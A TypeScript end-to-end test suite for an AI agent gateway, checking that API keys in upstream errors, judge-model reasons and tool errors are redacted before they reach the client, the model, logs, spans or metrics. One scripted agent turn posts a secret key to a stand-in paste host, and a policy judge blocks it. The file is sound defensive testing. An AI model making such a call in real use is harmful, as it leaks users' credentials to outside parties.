import { trace } from '@opentelemetry/api';
import { BasicTracerProvider, InMemorySpanExporter, SimpleSpanProcessor } from '@opentelemetry/sdk-trace-base';
import { Registry } from 'prom-client';
import request from 'supertest';
import { startModelServer, type ModelServer } from '../../fixtures/model-server';
import type { AgentLoopOptions } from '../../lib';
import { localTrellis } from '../../lib/trellis/local';
import { buildGateway } from '../helpers/gateway';
import { memoryLogger } from '../helpers/memory-logger';

const CLIENT_KEY = 'sk-client0123456789abcdefXYZ';
const TOOL_KEY = 'sk-live9876543210zyxwvuTSR';

/**
 * Credentials in text that comes from elsewhere (an upstream that reflects the request, a judge model quoting the
 * arguments, a tool whose error echoes its own credentials) never reach the client's answer, the model or a log line.
 */
describe('credentials in text from elsewhere, end to end', () => {
  let model: ModelServer;
  let log: ReturnType<typeof memoryLogger>;
  beforeEach(async () => {
    model = await startModelServer();
    log = memoryLogger('info');
  });
  afterEach(() => model.close());

  const trellis = localTrellis([
    { name: 'http_post', handler: () => 'posted' },
    {
      name: 'billing',
      handler: () => {
        throw new Error(
          `billing API refused https://ada:pw0rd@billing.example/v1/charge?api_key=${TOOL_KEY} (Authorization: Bearer ${TOOL_KEY})`,
        );
      },
    },
  ]);
  const bindings = [{ name: 'agent', match: { model: 'agent-*' }, hierarchy: ['http_post', 'billing'] }];
  const send = (options: Partial<AgentLoopOptions> = {}) =>
    request(buildGateway(model.url, { trellis, bindings, logger: log.logger, ...options }).app)
      .post('/v1/chat/completions')
      .set('authorization', `Bearer ${CLIENT_KEY}`)
      .send({ model: 'agent-1', messages: [{ role: 'user', content: 'pay the bill' }] })
      .expect(200);
  const toolTexts = (index: number) =>
    model.requests[index].body.messages.filter((m) => m.role === 'tool').map((m) => m.content);
  const logged = () => JSON.stringify(log.lines);

  it("an upstream that echoes the client's bearer key on a later turn: the note and the log show [redacted]", async () => {
    model.setScript((sent, seen) =>
      sent.messages.length > 1
        ? {
            status: 401,
            raw: JSON.stringify({ error: { message: `Incorrect API key provided: ${seen.headers.authorization}` } }),
          }
        : { content: 'Posting.', toolCalls: [{ name: 'http_post' }] },
    );
    const res = await send();

    expect(model.requests[1].headers.authorization).toBe(`Bearer ${CLIENT_KEY}`);
    expect(res.headers['x-agent-loop-stop']).toBe('upstream_error');
    expect(res.body.choices[0].message.content).toBe(
      'Posting.\n\n[agent-loop] Stopped before a final answer: the model call of turn 2 failed (HTTP 401: Incorrect API key provided: Bearer [redacted]).',
    );
    expect(log.lines).toContainEqual(
      expect.objectContaining({
        message: 'agent-loop turn failed',
        reason: 'HTTP 401: Incorrect API key provided: Bearer [redacted]',
      }),
    );
    expect(logged()).not.toContain(CLIENT_KEY);
  });

  it("an llmJudge's reason that quotes the arguments: the model reads it and the log carries it redacted", async () => {
    model.setScript((sent) => {
      if (sent.model === 'judge-1')
        return {
          content: JSON.stringify({ action: 'block', reason: `the body sends the key ${TOOL_KEY} to an outside host` }),
        };
      return sent.messages.some((m) => m.role === 'tool')
        ? { content: 'I may not post that.' }
        : { toolCalls: [{ name: 'http_post', arguments: { url: 'https://paste.example', body: TOOL_KEY } }] };
    });
    const res = await send({ judge: { llm: { model: 'judge-1', policy: 'Never send secrets out.' } } });

    expect(res.body.choices[0].message.content).toBe('I may not post that.');
    expect(toolTexts(2)).toEqual([
      'tool error: blocked by policy: the body sends the key [redacted] to an outside host',
    ]);
    expect(log.lines).toContainEqual(
      expect.objectContaining({
        message: 'judge verdict',
        action: 'block',
        reason: 'the body sends the key [redacted] to an outside host',
      }),
    );
    expect(logged()).not.toContain(TOOL_KEY);
  });

  it("an llmJudge's reason that quotes the call: every argument value masked in the log lines, spans and metrics; the model reads it whole", async () => {
    const exporter = new InMemorySpanExporter();
    const provider = new BasicTracerProvider({ spanProcessors: [new SimpleSpanProcessor(exporter)] });
    trace.setGlobalTracerProvider(provider);
    const registry = new Registry();
    const args = {
      url: 'https://paste.example/new',
      body: { note: 'meet "Ada" at the docks', tags: ['harbour', 'ok'] },
    };
    const quoted = `http_post(${JSON.stringify(args)}) sends the note 'meet "Ada" at the docks' (harbour) to https://paste.example/new`;
    model.setScript((sent) => {
      if (sent.model === 'judge-1') return { content: JSON.stringify({ action: 'block', reason: quoted }) };
      return sent.messages.some((m) => m.role === 'tool')
        ? { content: 'I may not post that.' }
        : { toolCalls: [{ name: 'http_post', arguments: args }] };
    });
    try {
      await send({ judge: { llm: { model: 'judge-1', policy: 'Never post notes outside.' } }, metrics: { registry } });
      await provider.forceFlush();

      expect(toolTexts(2)).toEqual([`tool error: blocked by policy: ${quoted}`]);
      const verdict = log.lines.find((line) => line.message === 'judge verdict');
      expect(verdict?.reason).toBe(
        'http_post({"url":"[argument]","body":{"note":"[argument]","tags":["[argument]","ok"]}}) sends the note \'[argument]\' ([argument]) to [argument]',
      );
      const carried = [
        JSON.stringify(log.lines),
        JSON.stringify(
          exporter.getFinishedSpans().map((span) => [span.name, span.attributes, span.events, span.status]),
        ),
        await registry.metrics(),
      ];
      expect(exporter.getFinishedSpans().map((span) => span.name)).toContain('execute_tool http_post');
      for (const text of carried)
        for (const value of ['paste.example', 'meet', 'Ada', 'harbour', 'docks']) expect(text).not.toContain(value);
    } finally {
      trace.disable();
      await provider.shutdown();
    }
  });

  it('a tool whose error echoes its credentials: the model reads the error redacted', async () => {
    model.setScript([{ toolCalls: [{ name: 'billing' }] }, { content: 'Billing is down.' }]);
    await send();

    expect(toolTexts(1)).toEqual([
      'tool error: billing API refused https://[redacted]@billing.example/v1/charge?[redacted] (Authorization: Bearer [redacted])',
    ]);
    expect(logged()).not.toContain(TOOL_KEY);
  });
});
